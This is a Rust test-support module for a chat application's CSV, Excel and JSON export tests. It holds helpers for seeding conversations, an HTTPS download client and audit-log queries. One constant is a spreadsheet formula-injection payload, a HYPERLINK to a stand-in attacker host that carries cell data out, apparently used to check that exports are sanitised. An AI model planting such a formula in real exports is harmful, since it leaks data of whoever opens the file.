//! Exports: CSV and Excel parse back and hold exactly the selection (tables.rs), scope and
//! permissions (scope.rs), one person's JSON package against docs/export-schema.json
//! (person.rs), memory of a 100,000-conversation export (memory.rs, ignored: it measures);
//! routes.rs is the export part of the route × role table (tests/it/access/routes.rs).

mod memory;
mod person;
mod routes;
mod scope;
mod tables;

pub use routes::{ROUTES, routes_by_role};

use crate::support::TestServer;
use crate::support::client::{Client, connect};
use plauder::clock::Clock as _;
use plauder::db::consents::{self, Given};
use plauder::db::conversations::{self, ConversationId, NewConversation};
use plauder::db::messages::{self, NewMessage, Sender};
use plauder::db::staff::StaffId;
use plauder::db::visitor_meta::{self, VisitorMeta};
use plauder::db::widgets::WidgetId;
use std::io::{Read, Write};

/// A formula a visitor could type to attack whoever opens the export in a spreadsheet.
pub const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klick\")";

/// A conversation stored the way the chat stores one: name and address (which makes a
/// contact), a consent, technical details, and the messages in order.
pub fn chat(
    server: &TestServer,
    widget: WidgetId,
    name: Option<&str>,
    email: Option<&str>,
    operator: Option<StaffId>,
    lines: &[(Sender, &str)],
) -> ConversationId {
    let now = server.clock.now().naive_utc();
    let ring = &server.state.ring;
    let mut conn = server.conn();
    let token = plauder::crypto::random_bytes::<32>().unwrap();
    let new = NewConversation {
        widget,
        token_hash: &token,
        offline: false,
        name,
        email,
    };
    let id = conversations::create(&mut conn, ring, &new, now).unwrap();
    let given = Given {
        notice_hash: "ab".repeat(32),
        notice_version: "abababab".into(),
        lang: "de".into(),
    };
    consents::insert(&mut conn, widget, id, &given, now).unwrap();
    let meta = VisitorMeta {
        ip: Some("198.51.100.7".into()),
        browser: Some("Firefox".into()),
        page_url: Some("https://www.example.de/hilfe".into()),
        ..Default::default()
    };
    visitor_meta::insert(&mut conn, ring, id, &meta, now).unwrap();
    if let Some(staff) = operator {
        assert!(conversations::take(&mut conn, id, staff, now).unwrap());
    }
    for (sender, text) in lines {
        let staff = (*sender != Sender::Visitor).then_some(operator).flatten();
        let m = NewMessage {
            conversation: id,
            sender: *sender,
            staff,
            client_id: None,
            text,
        };
        messages::append(&mut conn, ring, &m, now).unwrap();
    }
    id
}

/// A response with its body as bytes (the shared client keeps text only).
pub struct Download {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Download {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    pub fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }
}

/// Reads the response head, then hands the (de-chunked) body to `sink` piece by piece, so a
/// large download need not be held.
pub fn fetch_into(
    server: &TestServer,
    client: &Client,
    path: &str,
    mut sink: impl FnMut(&[u8]),
) -> (u16, Vec<(String, String)>) {
    let mut tls = connect(server.addr, server.tls()).unwrap();
    let jar: Vec<String> = client
        .cookies
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAccept-Language: {}\r\nCookie: {}\r\n\r\n",
        client.accept_language,
        jar.join("; ")
    );
    tls.write_all(head.as_bytes()).unwrap();
    let mut reader = std::io::BufReader::new(tls);
    let mut line = String::new();
    use std::io::BufRead;
    reader.read_line(&mut line).unwrap();
    let status: u16 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    let mut headers = Vec::new();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let line = line.trim_end();
        if line.is_empty() {
            break;
        }
        let (k, v) = line.split_once(':').unwrap();
        headers.push((k.trim().to_string(), v.trim().to_string()));
    }
    let chunked = headers
        .iter()
        .any(|(k, v)| k.eq_ignore_ascii_case("transfer-encoding") && v.contains("chunked"));
    if chunked {
        loop {
            let mut size = String::new();
            reader.read_line(&mut size).unwrap();
            let size = usize::from_str_radix(size.trim(), 16).unwrap();
            let mut chunk = vec![0; size + 2];
            reader.read_exact(&mut chunk).unwrap();
            if size == 0 {
                break;
            }
            sink(&chunk[..size]);
        }
    } else {
        let mut rest = Vec::new();
        let _ = reader.read_to_end(&mut rest);
        sink(&rest);
    }
    (status, headers)
}

pub fn fetch(server: &TestServer, client: &Client, path: &str) -> Download {
    let mut body = Vec::new();
    let (status, headers) = fetch_into(server, client, path, |b| body.extend_from_slice(b));
    Download {
        status,
        headers,
        body,
    }
}

/// The `exported` audit entries after `seq`: (object type, object id, outcome).
pub fn exported_since(server: &TestServer, seq: i64) -> Vec<(String, Option<i64>, String)> {
    plauder::db::audit::after(&mut server.conn(), seq, 1_000_000)
        .unwrap()
        .into_iter()
        .filter(|r| r.action == "exported")
        .map(|r| (r.object_type, r.object_id, r.outcome))
        .collect()
}

/// The newest audit seq.
pub fn audit_head(server: &TestServer) -> i64 {
    plauder::audit::head(&mut server.conn()).unwrap().seq
}
